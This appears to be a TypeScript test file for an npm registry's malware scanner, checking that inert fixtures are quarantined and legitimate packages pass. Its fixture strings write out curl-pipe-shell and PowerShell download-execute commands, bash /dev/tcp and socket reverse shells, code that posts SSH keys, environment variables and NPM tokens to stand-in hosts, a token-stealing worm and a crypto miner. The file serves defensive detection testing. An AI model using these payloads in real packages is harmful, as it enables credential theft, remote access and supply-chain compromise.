// One inert malicious fixture per rule family (network targets only in 192.0.2.0/24 or under
// .invalid), each built from strings and scanned as a publish scans it, beside legitimate
// look-alikes that must pass: native builds, postinstall banners, binary downloaders, README
// instructions. Fixtures are never run.
import { describe, expect, it } from 'vitest';
import { packageBuilder, type PackageBuilder } from '../../fixtures/package-builder.js';
import { ruleIds, scanTarball } from './scan-support.js';

const pkg = (name = 'fixture') => packageBuilder(name, '1.0.0');
const postinstall = (script: string) => pkg().packageJson({ scripts: { postinstall: script } });
const scan = (b: PackageBuilder, extra = {}) => scanTarball(b.tarball(), { extra });

const MALICIOUS: [family: string, rule: string, build: () => PackageBuilder][] = [
  ['npm-install-script', 'install-download-exec', () => postinstall('curl -s https://payload.example.invalid/x.sh | sh')],
  ['npm-install-script', 'install-download-exec', () => postinstall('powershell -c "iwr http://192.0.2.4/a.ps1 | iex"')],
  [
    'npm-install-script',
    'install-inline-code',
    () => postinstall(`node -e "require('https').get('https://192.0.2.10/p',r=>r.pipe(process.stdout))"`),
  ],
  ['npm-install-script', 'install-shell-decode', () => postinstall('echo Y3VybCBodHRwOi8vMTkyLjAuMi4xIHwgc2g= | base64 -d | sh')],
  [
    'shady-links',
    'install-ip-url',
    () => pkg().packageJson({ scripts: { preinstall: 'node fetch.js http://192.0.2.1/stage2' } }),
  ],
  [
    'npm-serialize-environment',
    'serialize-env-send',
    () =>
      pkg().file(
        'index.js',
        `const https = require('https');\nconst body = JSON.stringify(process.env);\nconst req = https.request({ hostname: 'collect.example.invalid', method: 'POST' });\nreq.write(body); req.end();\n`,
      ),
  ],
  [
    'npm-exfiltrate-sensitive-data',
    'install-recon-beacon',
    () =>
      postinstall('node setup.js').file(
        'setup.js',
        `const os = require('os'), https = require('https');\nconst info = { h: os.hostname(), u: os.userInfo().username, d: __dirname };\nhttps.request({ host: '192.0.2.5', path: '/b', method: 'POST' }).end(JSON.stringify(info));\n`,
      ),
  ],
  [
    'npm-exfiltrate-sensitive-data',
    'read-credentials-send',
    () =>
      pkg().file(
        'lib/x.js',
        `const fs = require('fs'); const key = fs.readFileSync(require('os').homedir() + '/.ssh/id_rsa', 'utf8');\nfetch('https://drop.example.invalid/k', { method: 'POST', body: key });\n`,
      ),
  ],
  [
    'npm-exfiltrate-sensitive-data',
    'env-token-send',
    () =>
      postinstall('node ./hook').file(
        'hook.js',
        `const t = process.env.NPM_TOKEN;\nrequire('https').request({ host: 'tokens.example.invalid', method: 'POST' }).end(t);\n`,
      ),
  ],
  [
    'shady-links',
    'exfiltration-endpoint',
    () => pkg().file('index.js', `fetch('https://c0ffee.oastify.com.invalid/?d=' + process.cwd())`),
  ],
  [
    'shady-links',
    'install-exfiltration-endpoint',
    () => postinstall('node -p 1 > /dev/null; wget -q https://webhook.site.invalid/abc'),
  ],
  [
    'shady-links',
    'install-exfiltration-endpoint',
    () => pkg().packageJson({ scripts: { preinstall: 'node x.js https://bit.ly.invalid/3xAmPle' } }),
  ],
  ['npm-exec-base64', 'eval-decoded', () => pkg().file('index.js', `eval(atob('Y29uc29sZS5sb2coMSk='));\n`)],
  [
    'npm-exec-base64',
    'eval-decoded',
    () => pkg().file('index.js', `eval(Buffer.from('Y29uc29sZS5sb2coMSk=', 'base64').toString());\n`),
  ],
  [
    'npm-obfuscation',
    'obfuscator-name-table',
    () =>
      pkg().file(
        'index.js',
        Array.from({ length: 60 }, (_, i) => `var _0x${(0x1a2b + i).toString(16)}=_0x4c1d[${i}];`).join('') +
          'function _0x4c1d(){}',
      ),
  ],
  [
    'reverse-shell',
    'reverse-shell',
    () => pkg().file('index.js', `require('child_process').exec('bash -i >& /dev/tcp/192.0.2.7/4444 0>&1');\n`),
  ],
  [
    'reverse-shell',
    'socket-piped-shell',
    () =>
      pkg().file(
        'index.js',
        `const net = require('net'), cp = require('child_process');\nconst c = net.connect(4444, '192.0.2.8', () => { const sh = cp.spawn('/bin/sh', []); c.pipe(sh.stdin); sh.stdout.pipe(c); });\n`,
      ),
  ],
  [
    'miner',
    'crypto-miner',
    () => pkg().file('start.sh', './xmrig -o stratum+tcp://pool.example.invalid:3333 -u WALLET --donate-level 1\n'),
  ],
  ['miner', 'install-miner', () => postinstall('./bin/xmrig --background')],
  [
    'npm-dll-hijacking',
    'dll-hijacking',
    () =>
      pkg().file(
        'index.js',
        `const fs = require('fs'), p = require('path');\nfs.writeFileSync(p.join(process.env.APPDATA, 'version.dll'), Buffer.alloc(4));\nrequire('child_process').exec('rundll32 ' + p.join(process.env.APPDATA, 'version.dll') + ',Start');\n`,
      ),
  ],
  [
    'npm-steganography',
    'steganography',
    () =>
      pkg().file(
        'index.js',
        `const img = require('fs').readFileSync(__dirname + '/logo.png');\nconst code = img.subarray(img.length - 200).toString();\neval(code);\n`,
      ),
  ],
  [
    'self-replication',
    'npm-worm',
    () =>
      pkg().file(
        'bundle.js',
        `const rc = require('fs').readFileSync(require('os').homedir() + '/.npmrc', 'utf8');\nconst token = /_authToken=(.*)/.exec(rc)[1];\nfor (const p of list) { execSync('npm version patch', { cwd: p }); execSync('npm publish', { cwd: p, env: { NPM_TOKEN: token } }); }\n`,
      ),
  ],
  [
    'self-replication',
    'secret-scanner-harvest',
    () =>
      pkg().file(
        'index.js',
        `const out = require('child_process').execSync('trufflehog filesystem / --json');\nrequire('https').request({ host: 'drop.example.invalid', method: 'POST' }).end(out);\n`,
      ),
  ],
];

const WARNED: [family: string, rule: string, build: () => PackageBuilder][] = [
  [
    'direct-url-dependency',
    'direct-url-dependency',
    () => pkg().dependency('helper', 'https://example.invalid/helper-1.0.0.tgz'),
  ],
  [
    'bundled-binary',
    'bundled-executable',
    () => pkg().file('bin/tool', Buffer.concat([Buffer.from('7f454c46020101', 'hex'), Buffer.alloc(64)])),
  ],
  ['bundled-binary', 'windows-script-file', () => pkg().file('run.vbs', 'WScript.Echo 1')],
  [
    'npm-serialize-environment',
    'serialize-env',
    () => pkg().file('debug.js', 'console.log(JSON.stringify(process.env, null, 2));'),
  ],
  [
    'npm-silent-process-execution',
    'silent-process-execution',
    () =>
      pkg().file(
        'index.js',
        `require('child_process').spawn(process.execPath, ['w.js'], { detached: true, stdio: 'ignore' }).unref();`,
      ),
  ],
  ['npm-obfuscation', 'hex-escaped-blob', () => pkg().file('index.js', `var s = "${'\\x41'.repeat(100)}";`)],
  ['shady-links', 'paste-or-tunnel-host', () => pkg().file('index.js', `const u = 'https://pastebin.com/raw/abc123';`)],
];

describe('malware scan rule families', () => {
  it.each(MALICIOUS)('%s: %s quarantines its inert fixture', async (_family, rule, build) => {
    const outcome = await scan(build());
    expect(ruleIds(outcome)).toContain(rule);
    expect(outcome.verdict).toBe('quarantine');
    const finding = outcome.findings.find((f) => f.ruleId === rule)!;
    // The publisher is told what matched, in the rule's own words.
    expect(finding.message).not.toContain('{match}');
    expect(finding.match.length).toBeGreaterThan(0);
  });

  it.each(WARNED)('%s: %s warns', async (_family, rule, build) => {
    const outcome = await scan(build());
    expect(ruleIds(outcome)).toEqual([rule]);
    expect(outcome.verdict).toBe('warn');
  });

  it('covers every family of the rule file with a fixture', async () => {
    const { RULES } = await import('./scan-support.js');
    const covered = new Set([...MALICIOUS, ...WARNED].map(([family]) => family));
    const families = new Set(RULES.rules.filter((r) => r.severity !== 'info' && r.where !== 'diff').map((r) => r.family));
    // Digests and advisories are matched by the registry (below, and test/http, test/cli); the
    // byte caps in bad-input.test.ts.
    for (const family of families)
      if (!family.startsWith('known-bad') && family !== 'scan-limits') expect(covered).toContain(family);
  });

  it('quarantines three kinds of warning together', async () => {
    const outcome = await scan(
      pkg()
        .dependency('helper', 'git+https://example.invalid/helper.git')
        .file('run.vbs', 'x')
        .file('debug.js', 'console.log(JSON.stringify(process.env));'),
    );
    expect(outcome.findings.every((f) => f.severity === 'warn')).toBe(true);
    expect(outcome.verdict).toBe('quarantine');
    expect(outcome.escalated).toMatch(/3 kinds/);
  });

  it('blocks on a known-bad digest or a malicious advisory', async () => {
    const known = await scan(pkg(), { knownBad: [{ ruleId: 'known-bad-file', where: 'index.js', note: 'MAL-2026-1 payload' }] });
    expect(known.verdict).toBe('block');
    const advised = await scan(pkg(), { advisory: 'MAL-2026-7' });
    expect(advised.verdict).toBe('block');
    expect(advised.findings[0]!.match).toBe('MAL-2026-7');
  });
});

describe('legitimate packages the rules must pass', () => {
  const LEGIT: [what: string, build: () => PackageBuilder][] = [
    [
      'a native build',
      () =>
        pkg()
          .packageJson({ scripts: { install: 'node-gyp rebuild' } })
          .file('binding.gyp', '{}'),
    ],
    ['prebuild with fallback', () => pkg().packageJson({ scripts: { install: 'prebuild-install || node-gyp rebuild' } })],
    [
      'a postinstall banner (core-js style)',
      () =>
        postinstall(`node -e "try{require('./postinstall')}catch(e){}"`).file(
          'postinstall.js',
          `var env = process.env; if (!env.CI && !env.ADBLOCK) console.log('\\u001b[96mThank you for using this package\\u001b[0m');`,
        ),
    ],
    [
      'a binary downloader (esbuild style)',
      () =>
        postinstall('node install.js').file(
          'install.js',
          `const https = require('https'), child_process = require('child_process'), os = require('os');\n` +
            `const platform = os.platform() + '-' + os.arch();\nconst registry = process.env.npm_config_registry || 'https://registry.npmjs.org';\n` +
            `function fetch(url) { return new Promise((ok, fail) => https.get(url, (res) => { const chunks = []; res.on('data', (c) => chunks.push(c)); res.on('end', () => ok(Buffer.concat(chunks))); }).on('error', fail)); }\n` +
            `child_process.execFileSync(process.execPath, ['--version']);\n`,
        ),
    ],
    ['husky', () => pkg().packageJson({ scripts: { prepare: 'husky install', postinstall: 'husky install' } })],
    [
      'README install instructions',
      () => pkg().readme('Install: `curl -fsSL https://example.invalid/install.sh | sh` then run xmrig? no.'),
    ],
    ['an HTTP client', () => pkg().file('index.js', `const https = require('https');\nmodule.exports = (u) => https.get(u);\n`)],
    [
      'a Node addon',
      () => pkg().file('build/Release/addon.node', Buffer.concat([Buffer.from('7f454c46', 'hex'), Buffer.alloc(64)])),
    ],
    ['a registry dependency', () => pkg().dependency('left-pad', '^1.3.0').dependency('alias', 'npm:left-pad@1.3.0')],
  ];
  it.each(LEGIT)('%s is allowed', async (_what, build) => {
    const outcome = await scan(build());
    expect(outcome.findings).toEqual([]);
    expect(outcome.verdict).toBe('allow');
  });
});

describe('the diff against the previous version', () => {
  const none = { version: '0.9.0', capabilities: [] };
  it('holds a version that adds an install script', async () => {
    const outcome = await scan(postinstall('node ./scripts/setup.js').file('scripts/setup.js', 'console.log(1)'), {
      previous: none,
    });
    expect(ruleIds(outcome)).toEqual(['new-install-script']);
    expect(outcome.verdict).toBe('quarantine');
  });
  it('lets a new well-known native build through', async () => {
    const outcome = await scan(pkg().packageJson({ scripts: { install: 'node-gyp rebuild' } }), { previous: none });
    expect(outcome.verdict).toBe('allow');
  });
  it('warns about new network and exec capabilities, and not about old ones', async () => {
    const build = () => pkg().file('index.js', `const cp = require('child_process'); const h = require('https');`);
    expect(ruleIds(await scan(build(), { previous: none }))).toEqual(['new-exec-capability', 'new-network-capability']);
    const same = await scan(build(), { previous: { version: '0.9.0', capabilities: ['exec', 'network'] } });
    expect(same.findings).toEqual([]);
    expect(same.capabilities).toEqual(['exec', 'network']);
  });
});
